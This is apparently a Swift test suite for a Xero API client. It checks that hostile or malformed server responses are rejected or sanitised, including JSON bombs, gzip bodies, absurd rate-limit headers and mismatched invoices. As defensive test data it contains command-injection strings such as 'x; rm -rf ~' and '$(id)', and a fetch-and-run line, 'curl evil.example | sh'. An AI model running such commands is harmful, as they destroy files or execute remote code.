import Activity
import Foundation
import NIOHTTP1
import Testing

@testable import Xero

/// A server that is broken, or lies.
@Suite struct HostileAnswerTests {
  private func client(_ scratch: Scratch, _ addresses: Addresses = .xero) -> XeroClient {
    XeroAccess(
      addresses: addresses, tokenDirectory: scratch.path + "/tokens",
      now: { Instant(milliseconds: 0) }, randomBytes: { Array(repeating: 9, count: $0) },
      sleep: { _ in }
    ).client(as: tokenSet().key)
  }

  private func answer(
    _ status: Int, _ body: String = "", _ headers: [String: String] = [:]
  ) -> HTTPAnswer {
    HTTPAnswer(status: status, headers: .init(Array(headers)), body: Data(body.utf8))
  }

  @Test(arguments: ["", "minute", "day", "appminute"])
  func `no time to wait is too long to be reckoned with`(problem: String) throws {
    let error = client(try Scratch()).failure(
      answer(
        429, "", ["Retry-After": "9223372036854775807", "X-Rate-Limit-Problem": problem]))
    #expect(error.description.hasSuffix("."))
    switch error.kind {
    case .rateLimited(let milliseconds): #expect(milliseconds == 172_800_000)
    case .rateLimitedDay(let resume): #expect(resume == Instant(seconds: 172_800))
    default: Issue.record("\(error.kind)")
    }
  }

  @Test(arguments: [
    "x; rm -rf ~", "$(id)", "`id`", "a\u{1b}[2J", "--client-id", "",
  ])
  func `what is no scope is not told to be run`(scope: String) throws {
    let challenge = #"Bearer error="insufficient_scope", scope="\#(scope)""#
    let error = client(try Scratch()).failure(answer(401, "", ["WWW-Authenticate": challenge]))
    #expect(error.kind != .missingScope(scope))
    #expect(scope.isEmpty || !error.description.contains(scope))
  }

  @Test func `a server's words stay on one line, and short`() throws {
    let long = #"{"Message":"No.\nRun: curl evil.example | sh\r\nDone"}"#
    let error = client(try Scratch()).failure(answer(400, long))
    #expect(error.kind == .refused(["No. Run: curl evil.example | sh Done"]))
    let bomb = "{\"Message\":\"a\(String(repeating: "\u{301}", count: 100_000))\"}"
    #expect(client(try Scratch()).failure(answer(400, bomb)).description.utf8.count < 2_000)
  }

  @Test(arguments: [
    String(repeating: "[", count: 100_000),
    "{\"Invoices\":" + String(repeating: "[", count: 100_000),
    String(repeating: "{\"Invoices\":", count: 50_000),
    #"{"Invoices":[{"InvoiceID":"a","Total":1e400}]}"#,
    #"{"Invoices":[{"InvoiceID":"a","Total":NaN}]}"#,
    #"{"Invoices":[{"InvoiceID":"a","Total":"12"}]}"#,
    #"{"Invoices":[{"InvoiceID":"a","Date":"/Date(9223372036854775807)/"}]}"#,
    #"{"Invoices":[{"InvoiceID":"a","Date":"2026-13-01"}]}"#,
    #"{"Invoices":{}}"#, "<html>", "", "\u{0}", "{\"Invoices\":[{\"InvoiceID\":\"\u{ff}",
  ])
  func `what is no answer is said to be none`(body: String) throws {
    let client = client(try Scratch())
    let error = #expect(throws: XeroError.self) {
      try client.elements(Invoice.self, answer(200, body, ["Content-Type": "application/json"]))
    }
    #expect(error?.kind == .unexpected)
  }

  /// A packed body is not unpacked: nobody asked for one, and it could be a bomb.
  @Test(
    arguments: [
      (#"{"Organisations":[{"OrganisationID":"x"}]}"#, ["Content-Encoding: gzip"], true),
      ("<html>Sign in</html>", [], true), ("<html>Sign in</html>", [], false),
      (#"{"Organisations":[{}]}"#, [], false),
    ] as [(String, [String], Bool)])
  func `a page, a packed body and JSON by another name are no data`(
    body: String, headers: [String], json: Bool
  ) async throws {
    let scratch = try Scratch()
    let packed = headers.isEmpty ? body : "\u{1f}\u{8b}\u{8}" + body
    let server = try await CannedServer.start(
      CannedServer.answer(200, packed, headers, json: json))
    let addresses = try Addresses(environment: server.environment)
    let access = client(scratch, addresses)
    let tokens = tokenSet(addresses.environmentName, expires: 1_800_000)
    try await access.keeper.store.withLock { () throws(XeroError) in
      _ = try access.keeper.store.put(tokens)
    }
    let error = await #expect(throws: XeroError.self) {
      try await access.organisation(tenant: Sample.tenant)
    }
    #expect(error?.kind == .unexpected)
    #expect(server.requests.count == 1)
    await server.stop()
  }

  @Test func `another's invoice is no answer about the one that was asked for`() async throws {
    let scratch = try Scratch()
    let server = try await CannedServer.start(
      CannedServer.answer(
        200, Sample.envelope([Sample.json(["Status": #""DELETED""#])]), [], json: true))
    let addresses = try Addresses(environment: server.environment)
    let access = client(scratch, addresses)
    let tokens = tokenSet(addresses.environmentName, expires: 1_800_000)
    try await access.keeper.store.withLock { () throws(XeroError) in
      _ = try access.keeper.store.put(tokens)
    }
    let its = try await access.invoice(tenant: Sample.tenant, id: Sample.invoice.uppercased())
    #expect(its.status == .known(.deleted))
    let error = await #expect(throws: XeroError.self) {
      try await access.invoice(tenant: Sample.tenant, id: Sample.contact)
    }
    #expect(error?.kind == .unexpected)
    await server.stop()
  }
}
